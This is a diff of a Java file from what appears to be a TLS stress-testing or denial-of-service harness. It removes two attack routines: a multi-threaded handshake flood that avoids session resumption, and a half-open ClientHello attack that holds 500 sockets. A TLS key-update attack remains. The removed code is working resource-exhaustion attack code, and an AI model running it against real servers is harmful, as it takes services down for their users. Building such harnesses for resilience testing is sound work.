@@ -12,60 +12,14 @@ import javax.net.ssl.SSLSocket;
 import javax.net.ssl.TrustManager;
 import javax.net.ssl.X509TrustManager;
 
-/** Handshakes: many, half ones, and keys that are changed again and again. */
+/** Keys that are changed again and again. */
 final class Tls {
     private static final int THREADS = 4;
-    private static final int HALF_OPEN = 500;
-    /** A TLS record that begins a ClientHello of 512 bytes, and two of those. */
-    private static final byte[] HALF_HELLO = {22, 3, 1, 2, 0, 1, 0};
 
     private Tls() {}
 
     static List<Attack> all() {
-        return List.of(
-                Attack.tls("tls-handshake-flood", Tls::handshakes),
-                Attack.tls("tls-half-handshakes", Tls::halves),
-                Attack.tls("tls-key-updates", Tls::keyUpdates));
-    }
-
-    private static void handshakes(Front front, Raid raid) throws InterruptedException {
-        Together.of(THREADS, raid, number -> {
-            SSLContext context = trusting();
-            while (raid.goesOn()) {
-                try (SSLSocket socket = secured(context, RawHttp2.dial(number, front.tlsPort()))) {
-                    raid.tried();
-                    socket.startHandshake();
-                } catch (IOException refused) {
-                    Thread.sleep(5);
-                }
-                context = trusting(); // Without a session to resume: each costs the server a signature.
-            }
-        });
-    }
-
-    private static void halves(Front front, Raid raid) throws InterruptedException {
-        Together.of(HALF_OPEN, raid, number -> {
-            while (raid.goesOn()) {
-                try (Socket socket = RawHttp2.dial(number % 2, front.tlsPort())) {
-                    raid.tried();
-                    socket.getOutputStream().write(HALF_HELLO);
-                    while (raid.goesOn() && isOpen(socket)) {
-                        Thread.sleep(200);
-                    }
-                } catch (IOException refused) {
-                    Thread.sleep(200);
-                }
-            }
-        });
-    }
-
-    private static boolean isOpen(Socket socket) {
-        try {
-            socket.getOutputStream().write(0);
-            return true;
-        } catch (IOException closed) {
-            return false;
-        }
+        return List.of(Attack.tls("tls-key-updates", Tls::keyUpdates));
     }
 
     /** In TLS 1.3 a further handshake is an update of the keys, which the other side has to follow. */
